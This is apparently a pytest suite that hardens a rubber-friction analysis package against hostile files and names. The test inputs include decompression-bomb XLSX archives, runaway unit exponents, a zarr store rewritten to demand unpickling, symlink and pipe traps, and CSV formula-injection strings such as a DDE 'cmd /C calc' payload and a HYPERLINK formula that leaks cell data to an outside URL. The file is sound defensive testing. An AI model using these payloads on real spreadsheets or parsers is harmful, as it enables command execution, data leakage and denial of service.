"""Files made to do harm: nothing is run, nothing is written elsewhere, what would fill
the memory is refused.
"""

import ast
import csv
import functools
import json
import os
import re
import socket
import stat
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import openpyxl
import pytest
import xarray

import elastomdr as em
from elastomdr.cli.main import main
from elastomdr.cli.sweep import _write_table
from elastomdr.cli.units import Pressure
from elastomdr.errors import InputError
from elastomdr.files import csv_text, read_bytes, write_files
from elastomdr.units.registry import to_si

from ..refused import refused

SOURCE = Path(em.__file__).parent
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def _workbook(path: Path, rows: str, padding: int = 0) -> Path:
    """A spreadsheet with one sheet, its XML followed by so many spaces, which compress
    to a thousandth.
    """
    parts = {
        "_rels/.rels": (
            f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
            f'Type="{_OFFICE}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets><sheet name="S" '
            'sheetId="1" '
            'r:id="r1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
            f'Type="{_OFFICE}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>'
        + " " * padding,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, _XML + text)
    return path


def _cells(*places: tuple[str, int]) -> str:
    return "".join(
        f'<row r="{row}"><c r="{column}{row}"><v>1</v></c></row>'
        for column, row in places
    )


@pytest.mark.parametrize(
    "column", ["XFD", "J"], ids=["17 billion cells", "10 million cells"]
)
def test_a_spreadsheet_that_is_larger_than_its_file(tmp_path, column):
    path = _workbook(tmp_path / "bomb.xlsx", _cells(("A", 1), (column, 1048576)))
    assert path.stat().st_size < 2000
    with refused("path_or_paths", "spreadsheet"):
        em.read_dma(path)


def test_a_spreadsheet_that_is_mostly_padding(tmp_path):
    path = _workbook(tmp_path / "bomb.xlsx", _cells(("A", 1)), padding=50_000_000)
    assert path.stat().st_size < 100_000
    with pytest.raises(em.InputError):
        em.read_dma(path)


@pytest.mark.parametrize(
    "text",
    ["a = " + "[" * 100_000, "a" + ".a" * 10_000 + " = 1", "a = " + "9" * 10_000],
)
def test_toml_that_is_deep_or_long(tmp_path, text):
    path = tmp_path / "deep.toml"
    path.write_text(text)
    with pytest.raises(em.InputError, match=r"deep\.toml"):
        em.load_material(path)


def test_reading_is_bounded(tmp_path):
    path = tmp_path / "long.csv"
    with path.open("wb") as file:
        file.truncate(10**12)  # no block of it is on the disk
    with pytest.raises(OSError, match="more than"):
        read_bytes(path)
    with pytest.raises(em.InputError, match="more than"):
        em.read_dma(path)


@pytest.mark.parametrize(
    "text",
    [
        "1," * 1_500_000,
        "omega ["
        + "rad/" * 100_000
        + "s],storage [Pa],loss [Pa]\n1,2,3\n2,3,4\n3,4,5\n",
    ],
    ids=["one line", "one unit"],
)
def test_a_text_that_is_one_long_line(tmp_path, text):
    """Cells of 100 MB, or a unit of 1 MB, kept the reader busy for minutes."""
    path = tmp_path / "long.csv"
    path.write_text(text)
    with pytest.raises(em.InputError):
        em.read_dma(path)


@pytest.mark.parametrize(
    "unit", ["9**9**9**9*Pa", "Pa*(9**9)**9**9", "9^9^9^9 Pa", "Pa**123456789"]
)
def test_a_unit_that_would_compute_for_ever(unit):
    """pint evaluates powers of numbers; no power of a power, and none of three digits,
    is a unit.
    """
    with pytest.raises(InputError):
        Pressure.convert("1", unit)
    assert to_si(unit, "modulus") is None


def test_a_store_that_asks_to_unpickle_is_refused(tmp_path):
    def swept():
        return em.sweep(
            em.friction,
            {"velocity": [0.1, 1.0]},
            store=tmp_path / "runs.zarr",
            progress=False,
            material=em.StandardSolid(1e6, 3e6, 1e-3),
            shape=em.Paraboloid(0.01),
            load=1.0,
        )

    swept()
    path = tmp_path / "runs.zarr" / "state" / ".zarray"
    about = json.loads(path.read_text())
    path.write_text(
        json.dumps(
            {**about, "dtype": "|O", "filters": [{"id": "pickle"}], "compressor": None}
        )
    )
    with refused("", "em.sweep"):
        swept()
    path.write_text(json.dumps({**about, "shape": [10**13]}))  # more than any memory
    with refused("", "em.sweep"):
        swept()


CURVE = em.friction(
    em.StandardSolid(1e6, 3e6, 1e-3),
    em.Paraboloid(0.01),
    load=1.0,
    velocity=np.logspace(-3, 1, 9),
)
LAW = em.friction(
    em.StandardSolid(1e6, 3e6, 1e-3),
    em.SelfAffine(0.8, q_low=1e3, q_high=1e5, rms_slope=0.5),
    pressure=3e5,
    velocity=np.logspace(-3, 1, 9),
).law()
WRITERS = {
    "csv": CURVE.to_csv,
    "xlsx": CURVE.to_excel,
    "law.csv": LAW.to_csv,
    "law.inp": LAW.to_abaqus,
    "toml": functools.partial(em.save_material, em.StandardSolid(1e6, 3e6, 1e-3)),
}


@pytest.mark.parametrize("name", WRITERS)
def test_a_link_in_place_of_an_output_is_neither_replaced_nor_followed(name, tmp_path):
    kept, link = tmp_path / f"kept.{name}", tmp_path / f"link.{name}"
    kept.write_text("kept")
    for target in (kept, tmp_path / "missing"):
        link.symlink_to(target)
        with refused("path", "remove"):
            WRITERS[name](link)
        assert link.is_symlink()
        link.unlink()
    assert kept.read_text() == "kept"
    assert os.listdir(tmp_path) == [kept.name]


@pytest.mark.parametrize("name", WRITERS)
def test_a_pipe_or_a_terminal_is_written_into(name, tmp_path):
    """And is there afterwards; a pipe that nobody reads is refused at once."""
    pipe, file = tmp_path / f"pipe.{name}", tmp_path / f"file.{name}"
    WRITERS[name](file)
    os.mkfifo(pipe)
    with pytest.raises(em.InputError, match="No such device"):
        WRITERS[name](pipe)
    with ThreadPoolExecutor() as threads:
        reader = threads.submit(pipe.read_bytes)
        for _ in range(1000):
            try:
                WRITERS[name](pipe)
                break
            except em.InputError:  # not read yet
                time.sleep(0.01)
        # a workbook holds the time at which it was made
        assert len(reader.result()) == pytest.approx(file.stat().st_size, abs=100)
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    assert sorted(os.listdir(tmp_path)) == [file.name, pipe.name]


def test_a_terminal_is_written_into_also_through_a_link(tmp_path):
    ours, theirs = os.openpty()
    (tmp_path / "out").symlink_to(os.ttyname(theirs))
    for path in (os.ttyname(theirs), tmp_path / "out"):
        write_files({Path(path): b"a row\n"})
        assert os.read(ours, 100) == b"a row\r\n"
    assert stat.S_ISCHR(os.stat(os.ttyname(theirs)).st_mode)


def test_what_is_replaced_keeps_its_permissions(tmp_path):
    path = tmp_path / "private.csv"
    CURVE.to_csv(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~_umask()
    path.chmod(0o600)
    CURVE.to_csv(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def _umask():
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_a_socket_is_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # its path must be short
    with socket.socket(socket.AF_UNIX) as door:
        door.bind("out.csv")
        with pytest.raises(em.InputError, match="Not a regular file"):
            CURVE.to_csv("out.csv")
        assert stat.S_ISSOCK(os.stat("out.csv").st_mode)


def test_a_command_replaces_no_link_and_no_pipe(tmp_path, capsys):
    """All of its files are written, or none."""
    (tmp_path / "scene.toml").write_text(
        'material = "tread-passenger-synthetic"\ntemperature = "20 degC"\n'
        '[indenter]\nshape = "sphere"\nradius = "5 mm"\n'
        '[contact]\nload = "10 N"\nvelocity = ["0.1 m/s", "1 m/s"]\n'
    )
    (tmp_path / "kept.png").write_text("kept")
    (tmp_path / "scene-friction.png").symlink_to("kept.png")
    given = ["friction", str(tmp_path / "scene.toml"), "--out", str(tmp_path)]
    assert main(given) == 2
    assert "is a link" in capsys.readouterr().err
    assert (tmp_path / "kept.png").read_text() == "kept"
    assert not (tmp_path / "scene-friction.csv").exists()


def test_nothing_that_is_read_is_run():
    """No eval, exec or pickle anywhere in the package, no shell, and NumPy is not
    allowed to unpickle. What a sweep hands to its own processes, and they to it, goes
    through their pipes, and is not read from anywhere.
    """
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                names = [alias.name for alias in node.names] + [
                    getattr(node, "module", None) or ""
                ]
                refused = {"pickle", "marshal", "shelve", "dill", "cloudpickle"}
                if path.parent == SOURCE / "sweeps" and path.stem in (
                    "run",
                    "identity",
                ):
                    refused -= {"cloudpickle", "pickle"}
                assert not refused & set(names), path
            if isinstance(node, ast.Call):
                name = node.func.id if isinstance(node.func, ast.Name) else ""
                assert name not in {"eval", "exec", "compile"}, (path, node.lineno)
                given = {word.arg: word.value for word in node.keywords}
                for key in ("shell", "allow_pickle"):
                    value = given.get(key)
                    assert value is None or (
                        isinstance(value, ast.Constant) and value.value is False
                    ), path


LIVE = '=HYPERLINK("http://example.org?"&A1,"see")'
NAMES = [LIVE, f"a,{LIVE}", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
NAMES += ["-1-A1", "-A1", "+ 1+1", "-.5*$B$2", "+1e5+A1"]


def cells_of(text):
    """As a spreadsheet takes a text apart: at commas, or at semicolons."""
    for separator in ",;\t":
        for row in csv.reader(text.splitlines(), delimiter=separator):
            yield from row


@pytest.mark.parametrize("name", NAMES)
def test_no_name_is_a_formula_in_a_table(name, tmp_path):
    """A material's name, in every table that the package writes."""
    rubber = em.Prony(1e6, [2e6], [1e-2], name=name)
    others = [rubber, em.Prony(2e6, [2e6], [1e-2], name="other")]
    curve = em.friction(others, em.Sphere(5e-3), velocity=[0.1, 1.0], load=1.0)
    curve.to_csv(tmp_path / "curve.csv")
    curve.ranking(velocity=1.0).to_csv(tmp_path / "ranking.csv")
    curve.to_excel(tmp_path / "curve.xlsx")
    alone = em.friction(rubber, em.Sphere(5e-3), velocity=[0.1, 1.0], load=1.0)
    alone.law().to_csv(tmp_path / "law.csv")
    (tmp_path / "plain.csv").write_text(em.fit.plain_card(rubber))
    dataset = xarray.Dataset(
        {"mu": ("material", [0.1, 0.2]), "converged": ("material", [True, True])},
        {"material": [name, "other"]},
    ).assign(state=("material", [1, 1]))
    _write_table(dataset, tmp_path / "sweep.csv", [f"material: {name}"])
    for path in tmp_path.glob("*.csv"):
        for cell in cells_of(path.read_text()):
            assert not re.match(r"\s*[=@]|\s*[+-].*[(|!]", cell), (path.name, cell)
            assert not re.match(r"\s*[+-].*[AB+]\$?\d", cell), (path.name, cell)
    for path in tmp_path.glob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path):
            kinds = {cell.data_type for row in sheet for cell in row}
            assert "f" not in kinds, path.name


def test_texts_that_are_no_formulas_stay(tmp_path):
    columns = {
        "a": ["-", "-20 degC", "+5 %", "-2.5e-3 1/s", "x, y"],
        "b": [1.0, -2.0, 3.0, 4.0, np.nan],
    }
    text = csv_text(["at -5 degC, -0.1 m/s, +3 %"], columns)
    assert "'" not in text
    assert "at -5 degC, -0.1 m/s, +3 %" in text
